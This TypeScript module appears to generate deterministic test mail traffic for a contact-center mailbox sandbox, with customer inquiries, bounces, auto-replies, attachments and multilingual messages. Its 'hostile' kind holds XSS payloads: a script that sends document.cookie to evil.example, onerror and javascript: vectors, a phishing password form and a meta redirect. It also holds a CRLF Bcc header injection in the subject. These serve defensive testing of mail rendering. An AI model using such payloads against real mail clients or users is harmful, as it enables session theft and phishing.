import { randomInt } from 'node:crypto';
import type { InboundMail } from '../model/mail-delivery';
import { createRandom } from '../throttling/fault-injector';

/** The kinds of inbound mail the generator produces. */
export const trafficKinds = [
  'inquiry',
  'html',
  'followUp',
  'attachment',
  'autoReply',
  'bounce',
  'large',
  'hostile',
  'international',
] as const;
export type TrafficKind = (typeof trafficKinds)[number];

/** Default mix (weights), roughly a contact-center inbox. */
const defaultTrafficMix: Readonly<Record<TrafficKind, number>> = {
  inquiry: 40,
  html: 15,
  followUp: 15,
  attachment: 10,
  autoReply: 5,
  bounce: 4,
  large: 2,
  hostile: 5,
  international: 4,
};

export interface TrafficOptions {
  count: number;
  /**
   * Same seed, same mail — Message-IDs included (only timestamps differ), so delivering a seed's mail
   * again (a sandbox restarted with its demo data) is recognised as the same mail. Default: a random seed.
   */
  seed?: number;
  mix?: Partial<Record<TrafficKind, number>>;
  /** The routed mailbox's address (bounces and auto-replies answer mail it sent). */
  mailboxAddress: string;
  /** Message-IDs the mailbox sent earlier (agent replies): follow-ups thread onto them. */
  sentMessageIds?: readonly string[];
  /** Sender domain pool; `customer.example` style by default. */
  senderDomains?: readonly string[];
  /** Size of the `large` kind's attachment in bytes (default 2.5 MB, under Graph's 3 MB inline limit). */
  largeAttachmentBytes?: number;
  now: number;
}

const firstNames = [
  'Ada',
  'Björn',
  'Chloé',
  'Dmitri',
  'Emeka',
  'Fatima',
  'Grace',
  'Hiro',
  'Ines',
  'Jonas',
  'Kavya',
  'Lena',
  'Mateo',
  'Noor',
  'Olga',
  'Pedro',
];
const lastNames = [
  'Lovelace',
  'Nilsson',
  'Dubois',
  'Ivanov',
  'Okafor',
  'Haddad',
  'Hopper',
  'Tanaka',
  'García',
  'Schmidt',
  'Iyer',
  'Novak',
];
const topics = [
  [
    'Order #{n} has not arrived',
    'I ordered on Monday and the tracking page has not changed since. Can you tell me where my parcel is?',
  ],
  ['Refund for invoice {n}', 'I returned the item two weeks ago and have not received my refund yet. Please check.'],
  ['Cannot log in to my account', 'Since yesterday the password reset link says it has expired. I tried three times.'],
  ['Change delivery address for order {n}', 'Please deliver to my office instead: 12 Harbour Street, 3rd floor.'],
  ['Complaint about service', 'Your agent promised a call back and nobody called. I am very disappointed.'],
  ['Question about warranty', 'My device stopped charging after 11 months. Is this covered by the warranty?'],
  ['Cancel my subscription', 'Please cancel my subscription at the end of this billing period and confirm by email.'],
  ['Invoice address is wrong', 'The company name on invoice {n} is misspelled. Could you issue a corrected invoice?'],
] as const;
const international = [
  [
    'Lieferung verspätet – Bestellung {n}',
    'Guten Tag, meine Bestellung ist noch nicht angekommen. Können Sie mir bitte helfen? Grüße',
    'de',
  ],
  ['Problème de facturation {n}', "Bonjour, j'ai été facturé deux fois pour la même commande. Merci de corriger.", 'fr'],
  ['Pedido {n} incompleto', 'Hola, faltan dos artículos en mi pedido. ¿Pueden enviarlos? Gracias', 'es'],
  ['注文{n}について', 'こんにちは。注文した商品がまだ届いていません。確認をお願いします。', 'ja'],
  ['طلب رقم {n}', 'مرحبا، لم يصل طلبي بعد. أرجو المساعدة 🙏', 'ar'],
] as const;
const hostileBodies = [
  '<p>Hello</p><script>fetch("https://evil.example/steal?c="+document.cookie)</script><p>Please help</p>',
  '<img src="x" onerror="alert(document.domain)"><a href="javascript:alert(1)">click for your refund</a>',
  '<div style="background:url(javascript:alert(1))">styled</div><iframe src="https://evil.example/frame"></iframe>',
  '<form action="https://evil.example/phish" method="post"><input name="password" type="password"><button>Verify account</button></form>',
  '<svg onload="alert(1)"><foreignObject><body onload="alert(2)"></body></foreignObject></svg><meta http-equiv="refresh" content="0;url=https://evil.example">',
] as const;

// A tiny valid PDF and a 1x1 PNG, so attachments open in viewers.
const tinyPdf = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);
const tinyPng = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);

function pick<T>(items: readonly T[], random: () => number): T {
  return items[Math.floor(random() * items.length)] as T;
}

function chooseKind(mix: Record<TrafficKind, number>, random: () => number): TrafficKind {
  const total = trafficKinds.reduce((sum, kind) => sum + Math.max(0, mix[kind]), 0);
  let roll = random() * total;
  for (const kind of trafficKinds) {
    roll -= Math.max(0, mix[kind]);
    if (roll < 0) return kind;
  }
  return 'inquiry';
}

/**
 * Realistic inbound traffic for a routed mailbox: customer inquiries (text and HTML), follow-ups that thread
 * onto earlier mail (the batch's own or the mailbox's sent replies), attachments, auto-replies, bounces,
 * large mail, hostile HTML and non-English mail. Deterministic for a seed, Message-IDs included.
 */
export function generateTraffic(options: TrafficOptions): Array<InboundMail & { kind: TrafficKind }> {
  const seed = options.seed ?? randomInt(2 ** 31);
  const random = createRandom(seed);
  const mix = { ...defaultTrafficMix, ...options.mix };
  const domains = options.senderDomains ?? [
    'customer.example',
    'mail.example.org',
    'contoso-customer.example',
    'fabrikam.example.net',
  ];
  const threadable: string[] = [...(options.sentMessageIds ?? [])];
  const result: Array<InboundMail & { kind: TrafficKind }> = [];
  const start = options.now - options.count * 1000;

  for (let index = 0; index < options.count; index += 1) {
    let kind = chooseKind(mix, random);
    if (kind === 'followUp' && threadable.length === 0) kind = 'inquiry';
    const first = pick(firstNames, random);
    const last = pick(lastNames, random);
    const domain = pick(domains, random);
    const from = {
      emailAddress: {
        name: `${first} ${last}`,
        address: `${first}.${last}@${domain}`
          .toLowerCase()
          .normalize('NFD')
          .replace(/[\u0300-\u036f]/g, ''),
      },
    };
    const number = 100_000 + Math.floor(random() * 900_000);
    const [subjectTemplate, text] = pick(topics, random);
    const subject = subjectTemplate.replace('{n}', String(number));
    const receivedMs = start + index * 1000;
    const base = { from, receivedMs };
    let mail: InboundMail;
    switch (kind) {
      case 'html':
        mail = {
          ...base,
          subject,
          body: {
            contentType: 'html',
            content: `<html><body><p>Hello,</p><p>${text}</p><p>Kind regards,<br><b>${first} ${last}</b></p><img src="cid:logo@customer"></body></html>`,
          },
          attachments: [
            { name: 'logo.png', contentType: 'image/png', content: tinyPng, isInline: true, contentId: 'logo@customer' },
          ],
          headers: [{ name: 'X-Mailer', value: 'Microsoft Outlook 16.0' }],
        };
        break;
      case 'followUp': {
        const parent = pick(threadable, random);
        mail = {
          ...base,
          subject: `RE: ${subject}`,
          body: { contentType: 'text', content: `Thanks, but this is still not solved.\n\n> ${text}` },
          inReplyTo: parent,
          references: [parent],
        };
        break;
      }
      case 'attachment':
        mail = {
          ...base,
          subject: `${subject} (see attached)`,
          body: { contentType: 'text', content: `${text}\n\nI attached the invoice and a photo.` },
          attachments: [
            { name: `invoice-${number}.pdf`, contentType: 'application/pdf', content: tinyPdf },
            { name: 'photo.png', contentType: 'image/png', content: tinyPng },
          ],
        };
        break;
      case 'autoReply':
        mail = {
          ...base,
          subject: `Automatic reply: ${subject}`,
          body: {
            contentType: 'text',
            content: `I am out of the office until next week with limited access to email.\n${first}`,
          },
          headers: [
            { name: 'Auto-Submitted', value: 'auto-replied' },
            { name: 'X-Auto-Response-Suppress', value: 'All' },
          ],
        };
        break;
      case 'bounce': {
        const bounced = threadable.length > 0 ? pick(threadable, random) : undefined;
        mail = {
          from: {
            emailAddress: {
              name: 'Microsoft Outlook',
              address: `postmaster@${options.mailboxAddress.split('@')[1] ?? 'sandbox.example'}`,
            },
          },
          receivedMs,
          subject: `Undeliverable: ${subject}`,
          body: {
            contentType: 'html',
            content: `<html><body><p><b>Your message to ${from.emailAddress.address} couldn't be delivered.</b></p><p>Remote server returned '550 5.1.1 RESOLVER.ADR.RecipNotFound; not found'</p></body></html>`,
          },
          headers: [
            { name: 'Auto-Submitted', value: 'auto-replied' },
            { name: 'X-MS-Exchange-Message-Is-Ndr', value: '' },
          ],
          attachments: [
            {
              name: 'details.txt',
              contentType: 'message/delivery-status',
              content: Buffer.from(
                `Reporting-MTA: dns;sandbox.outlook.invalid\nFinal-Recipient: rfc822;${from.emailAddress.address}\nAction: failed\nStatus: 5.1.1\n`,
              ),
            },
          ],
          ...(bounced ? { inReplyTo: bounced, references: [bounced] } : {}),
        };
        break;
      }
      case 'large': {
        const size = options.largeAttachmentBytes ?? 2_500_000;
        const content = Buffer.alloc(size);
        for (let offset = 0; offset < size; offset += 4)
          content.writeUInt32LE(Math.floor(random() * 0xffffffff) >>> 0, Math.min(offset, size - 4));
        mail = {
          ...base,
          subject: `${subject} – full logs`,
          body: { contentType: 'text', content: `${text}\n\n${'Log line: something happened at step N\n'.repeat(2000)}` },
          attachments: [{ name: 'logs.zip', contentType: 'application/zip', content }],
        };
        break;
      }
      case 'hostile':
        mail = {
          ...base,
          subject: `${subject}\r\nBcc: everyone@victim.example`,
          body: { contentType: 'html', content: pick(hostileBodies, random) },
          headers: [{ name: 'X-Mailer', value: 'totally-legit-mailer <script>' }],
        };
        break;
      case 'international': {
        const [subjectLine, body, language] = pick(international, random);
        mail = {
          ...base,
          subject: subjectLine.replace('{n}', String(number)),
          body: { contentType: 'text', content: body },
          headers: [{ name: 'Content-Language', value: language }],
        };
        break;
      }
      default:
        mail = { ...base, subject, body: { contentType: 'text', content: `Hello,\n\n${text}\n\nRegards,\n${first} ${last}` } };
    }
    // From the seed and the position only (never the clock): the same seed yields the same Message-IDs.
    mail.internetMessageId = `<${seed.toString(36)}.${index}.${Math.floor(random() * 1e9).toString(36)}@${domain}>`;
    if (kind === 'inquiry' || kind === 'html' || kind === 'attachment' || kind === 'international' || kind === 'followUp')
      threadable.push(mail.internetMessageId);
    result.push({ ...mail, kind });
  }
  return result;
}
